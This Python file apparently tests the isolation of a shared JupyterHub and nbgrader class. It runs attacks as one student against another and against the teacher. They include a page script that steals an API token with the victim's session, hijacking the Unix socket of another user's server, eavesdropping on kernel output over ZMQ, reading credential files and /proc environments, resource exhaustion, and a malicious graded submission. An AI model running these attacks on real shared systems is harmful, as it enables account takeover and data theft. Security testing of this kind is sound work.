"""A curious student who shares a machine with others, and what they try; see class_attacks.py."""

from __future__ import annotations

import json
import os
import pwd
import re
import shutil
import subprocess
import time
from pathlib import Path

from playwright.sync_api import Browser, Page, sync_playwright

from benchmarks.class_of_thirty import CLASS, PORT, Hub
from benchmarks.student import Student
from tools.real_browser import ARGUMENTS, find_chromium
from tools.student_copies import NBGRADER_CONFIG

EXCHANGE = Path("/usr/local/share/nbgrader/exchange")
HOST = "hub.localhost"  # it and all names before it lead to this machine
VICTIM, ATTACKER = "alice", "mallory"

_STEAL = """
<script type="module">
try {
    const page = await fetch("HUB/hub/token", {credentials: "include"});
    const token = /xsrf_token: "([^"]+)"/.exec(await page.text())[1];
    const made = await fetch("HUB/hub/api/users/alice/tokens", {
        method: "POST", credentials: "include", body: "{}",
        headers: {"X-XSRFToken": token, "Content-Type": "application/json"},
    });
    document.title = "got " + (await made.json()).token;
} catch (error) { document.title = "nothing: " + error; }
</script>
"""
# Puts a server of the attacker's own in the place of theirs.
_SERVE = """
import http.server, os, socketserver, sys
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = open(sys.argv[2], "rb").read()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def address_string(self): return ""
os.unlink(sys.argv[1])
socketserver.ThreadingUnixStreamServer(sys.argv[1], Page).serve_forever()
"""


class Attacks:
    """A hub, a victim, an attacker and a teacher.

    Args:
        hub: Which is running.
        passwords: By account.
    """

    def __init__(self, hub: Hub, passwords: dict[str, str]) -> None:
        self._hub = hub
        self._passwords = passwords
        self._python = hub.venv / "bin" / "python"
        self._victim = Student(VICTIM, passwords[VICTIM], PORT)
        self._attacker = Student(ATTACKER, passwords[ATTACKER], PORT)

    def _run_as(self, name: str, code: str, *arguments: str | Path) -> str:
        """Runs Python as somebody, outside the limits of their unit; gives what it printed."""
        command = ["runuser", "-u", name, "--", self._python, "-c", code, *arguments]
        done = subprocess.run(command, cwd="/", stdout=subprocess.PIPE, text=True, timeout=120)
        return done.stdout.strip()

    def passwords_in_a_file(self) -> str:
        """Is the file with the passwords there, or would one that others may read be taken?"""
        got = "students.txt" * (self._hub.folder / "accounts").exists()
        for mode in (0o644, 0o640, 0o666):
            file = self._hub.folder.parent / f"class-{mode:o}.txt"
            file.write_text("eve:secret\n", encoding="utf-8")
            file.chmod(mode)
            done = subprocess.run(
                ["sh", CLASS / "accounts.sh", file, self._python], capture_output=True
            )
            file.unlink(missing_ok=True)
            got += f" {mode:o}" * (done.returncode == 0)
        return got

    def what_the_hub_keeps(self) -> str:
        """The database, the cookie secret, the environments with each server's token."""
        kept = [str(path) for path in self._hub.folder.rglob("*") if path.is_file()]
        kept += [str(path) for path in Path("/run").glob("jupyter-*/*")]
        kept += [f"/proc/{path.name}/environ" for path in Path("/proc").glob("[0-9]*")]
        kept += ["/etc/shadow"]
        mine = pwd.getpwnam(ATTACKER).pw_uid
        others = [path for path in kept if Path(path).exists() and os.stat(path).st_uid != mine]
        assert len(others) > 5
        code = (
            "import sys\n"
            "for path in sys.argv[1:]:\n"
            "    try: open(path, 'rb').read(1); print(path)\n"
            "    except OSError: pass"
        )
        return self._run_as(ATTACKER, code, *others)

    def anothers_place(self) -> str:
        """Listens where the victim's server will be, before it is."""
        uid = pwd.getpwnam(VICTIM).pw_uid
        place = f"/run/jupyter-{VICTIM}-singleuser"
        code = """
import os, socket, sys
def tried(attack, words):
    try: attack(); print(words)
    except OSError: pass
tried(lambda: os.makedirs(sys.argv[1]), "made the folder")
tried(lambda: socket.socket(socket.AF_UNIX).bind(sys.argv[1] + "/server.sock"), "has the socket")
held = []
for port in (int(sys.argv[2]), *range(32_768, 61_000, 40)):
    each = socket.socket()
    tried(lambda: each.bind(("127.0.0.1", port)), "")
    each.listen()
    each.setblocking(False)
    held.append(each)
print("listens", flush=True)
sys.stdin.read()
for each in held:
    tried(lambda: each.accept(), f"was taken for {each.getsockname()}")
"""
        guess = str(10_000 + uid % 20_000)  # a rule that the class once had
        listening = subprocess.Popen(
            ["runuser", "-u", ATTACKER, "--", self._python, "-c", code, place, guess],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        assert listening.stdin
        assert listening.stdout
        printed = list(iter(listening.stdout.readline, "listens\n"))
        self._victim.open()
        self._victim.predict()
        printed += listening.communicate()[0].splitlines()
        owner = Path(f"{place}/server.sock").stat().st_uid
        return " ".join(printed).strip() + "not hers" * (owner != uid)

    def anothers_output(self) -> str:
        """Listens to all that the victim's server and kernel have open while a cell prints."""
        uid = str(pwd.getpwnam(VICTIM).pw_uid)
        rows = [row.split() for row in Path("/proc/net/tcp").read_text("utf-8").splitlines()[1:]]
        ports = [f"tcp://127.0.0.1:{int(row[1][9:], 16)}" for row in rows if row[7] == uid]
        sockets = Path(f"/run/jupyter-{VICTIM}-singleuser").rglob("*")
        places = ports + [f"ipc://{path}" for path in sockets if path.is_socket()]
        assert any("kernel" in place for place in places) or len(ports) > 4, places
        code = """
import sys, time, zmq
heard = zmq.Context().socket(zmq.SUB)
heard.setsockopt(zmq.SUBSCRIBE, b"")
heard.setsockopt(zmq.RCVTIMEO, 8_000)
for place in sys.argv[1:]:
    try: heard.connect(place)
    except zmq.ZMQError: pass
print("listens", flush=True)
try:
    while b"secret" not in b"".join(heard.recv_multipart()): pass
    print("what she printed")
except zmq.ZMQError: pass
"""
        listening = subprocess.Popen(
            ["runuser", "-u", ATTACKER, "--", self._python, "-c", code, *places],
            stdout=subprocess.PIPE,
            text=True,
        )
        assert listening.stdout
        assert listening.stdout.readline() == "listens\n"
        for _ in range(3):
            time.sleep(1)
            assert self._victim._printed("print('sec' + 'ret')") == "secret\n"
        return listening.communicate()[0].strip()

    def ports_of_the_hub(self) -> str:
        """Listens where the hub and the proxy did, once they fell, as a login page would."""
        code = (
            "import socket\n"
            "for port in (80, 443, 808, 809):\n"
            "    try: socket.socket().bind(('', port)); print(port)\n"
            "    except OSError: pass"
        )
        self._hub.kill()
        try:
            return self._run_as(ATTACKER, code)
        finally:
            self._hub.start()

    def still_there_after_the_fall(self) -> str:
        """The victim's server and kernel, which the hub must find again."""
        self._victim.save_at_last()
        return "" if self._victim.still_knows() else "the kernel is another"

    def beyond_the_limits(self) -> str:
        """Takes more memory and processes than a student may, and looks at what others run."""
        self._attacker.open()
        self._attacker.predict()
        code = """
import os, subprocess, sys
hog = "b = bytearray(3 << 30); print('has 3 GiB')"
print(subprocess.run([sys.executable, "-c", hog], capture_output=True, text=True).stdout)
children = []
try:
    while len(children) < 1000:
        children.append(subprocess.Popen(["sleep", "20"]))
    print("has 1,000 processes")
except OSError: pass
for child in children: child.kill(); child.wait()
mine = os.getuid()
seen = [each for each in os.listdir("/proc") if each.isdigit()]
print(*[f"sees {each}" for each in seen if os.stat(f"/proc/{each}").st_uid != mine])
print("sees /tmp of others" * os.path.exists("/tmp/of-others"))
"""
        Path("/tmp/of-others").write_text("", encoding="utf-8")
        try:
            return self._attacker._printed(code).strip()
        finally:
            Path("/tmp/of-others").unlink()

    def the_exchange(self) -> str:
        """Moves the course's folder away, puts another in its place, reads and moves answers."""
        inbound = EXCHANGE / "stateviz" / "inbound"
        answers = inbound / f"{VICTIM}+03_stateful+now+secret"
        self._run_as(
            VICTIM,
            "import os, sys; os.mkdir(sys.argv[1]); os.chmod(sys.argv[1], 0o777)",
            str(answers),
        )
        assert answers.is_dir()
        code = """
import os, sys
exchange, answers = sys.argv[1:]
course = exchange + "/stateviz"
for name, attack in {
    "moved the course": lambda: os.rename(course, course + "-old"),
    "moved outbound": lambda: os.rename(course + "/outbound", course + "/away"),
    "released": lambda: os.mkdir(course + "/outbound/03_stateful"),
    "listed the answers": lambda: os.listdir(course + "/inbound"),
    "moved an answer": lambda: os.rename(answers, answers + "-away"),
    "removed an answer": lambda: os.rmdir(answers),
}.items():
    try: attack(); print(name)
    except OSError: pass
"""
        try:
            return self._run_as(ATTACKER, code, str(EXCHANGE), str(answers))
        finally:
            shutil.rmtree(answers, ignore_errors=True)

    def a_shell_besides(self) -> str:
        """Logs in beside the hub, where no limit holds."""
        shells = [pwd.getpwnam(name).pw_shell for name in (VICTIM, ATTACKER)]
        return " ".join(shell for shell in shells if not shell.endswith("nologin"))

    def teacher_opens_a_server(self) -> str:
        """Whether the teacher, on one origin with all, is let into a student's pages."""
        teacher = Student("teacher", self._passwords["teacher"], PORT)
        teacher.open()
        answer = teacher.page_of(VICTIM)
        return "" if answer.status_code == 403 else f"{answer.status_code} {answer.url}"

    def token_by_a_page(self) -> str:
        """Serves a page that makes an API token of whoever opens it, and has the victim open it."""
        origin = f"https://{HOST}" if self._hub.host else "http://127.0.0.1"
        theirs = f"https://{ATTACKER}.{HOST}" if self._hub.host else origin
        page = self._hub.folder.parent / "class-page.html"
        page.write_text(_STEAL.replace("HUB", origin), encoding="utf-8")
        page.chmod(0o644)
        place = Path(f"/run/jupyter-{ATTACKER}-singleuser/server.sock")
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(
                executable_path=find_chromium(), args=ARGUMENTS, headless=True
            )
            self._log_in(browser, ATTACKER, origin)
            while not place.exists():
                time.sleep(0.5)
            time.sleep(5)
            command = ["runuser", "-u", ATTACKER, "--", str(self._python), "-c", _SERVE]
            serving = subprocess.Popen([*command, str(place), str(page)], stderr=subprocess.DEVNULL)
            try:
                time.sleep(2)
                tab = self._log_in(browser, VICTIM, origin)
                tab.goto(f"{theirs}/user/{ATTACKER}/anything")
                tab.wait_for_function("/^(got|nothing)/.test(document.title)", timeout=30_000)
                print("     ", tab.title()[:70])
                return "" if tab.title().startswith("nothing") else "an API token"
            finally:
                subprocess.run(["pkill", "-KILL", "-u", ATTACKER], check=False)
                serving.wait()
                page.unlink()

    def _log_in(self, browser: Browser, name: str, origin: str) -> Page:
        tab = browser.new_context(ignore_https_errors=True).new_page()
        tab.goto(f"{origin}/hub/login")
        tab.fill("#username_input", name)
        tab.fill("#password_input", self._passwords[name])
        tab.click("#login_submit")
        tab.wait_for_url(re.compile(f"/(spawn|user/{name})"), timeout=60_000)
        return tab

    def grading(self) -> str:
        """What code that was handed in reaches while it is graded."""
        home = Path(pwd.getpwnam("teacher").pw_dir)
        course = home / "stateviz"
        (home / "secret").write_text("the teacher's", encoding="utf-8")
        code = f"""
import os, socket, pathlib
got = []
for path in ("{home}/secret", "{home.parent}/{VICTIM}", "{EXCHANGE}", "{self._hub.folder}"):
    try: os.listdir(path) if os.path.isdir(path) else open(path).read(); got.append(path)
    except OSError: pass
for path in ("nbgrader_config.py", "source/03/03.ipynb", "submitted/mark"):
    try: open(pathlib.Path({str(course)!r}) / path, "a").write(""); got.append("writes " + path)
    except OSError: pass
try: socket.create_connection(("127.0.0.1", 80), 2); got.append("the hub")
except OSError: pass
print("reached", got)
"""
        notebook = {
            "nbformat": 4,
            "nbformat_minor": 5,
            "metadata": {"kernelspec": {"name": "python3", "display_name": ""}},
            "cells": [
                {
                    "cell_type": "code",
                    "id": "graded",
                    "source": "",
                    "outputs": [],
                    "execution_count": None,
                    "metadata": {
                        "nbgrader": {
                            "schema_version": 3, "grade_id": "graded", "solution": True,
                            "grade": True, "locked": False, "task": False, "points": 1,
                        }
                    },
                }
            ],
        }  # fmt: skip
        for name, source in {"source": "", f"submitted/{ATTACKER}": code}.items():
            folder = course / name / "03"
            folder.mkdir(parents=True)
            notebook["cells"][0]["source"] = source  # type: ignore[index]
            (folder / "03.ipynb").write_text(json.dumps(notebook), encoding="utf-8")

        (course / "nbgrader_config.py").write_text(NBGRADER_CONFIG, encoding="utf-8")
        (course / "gradebook").mkdir()
        subprocess.run(["chown", "-R", "teacher:", course], check=True)
        binaries = self._hub.venv / "bin"
        generate = f'cd "$1" && HOME=$2 PATH={binaries}:$PATH nbgrader generate_assignment 03'
        subprocess.run(
            ["runuser", "-u", "teacher", "--", "sh", "-c", generate, "-", course, home], check=True
        )
        subprocess.run(
            ["sh", CLASS / "autograde.sh", "03"],
            env={**os.environ, "CLASS_BIN": str(binaries)},
            check=True,
        )
        graded = json.loads((course / f"autograded/{ATTACKER}/03/03.ipynb").read_text("utf-8"))
        printed = "".join(graded["cells"][0]["outputs"][0]["text"])
        assert printed.startswith("reached"), printed
        return printed.removeprefix("reached []").strip()
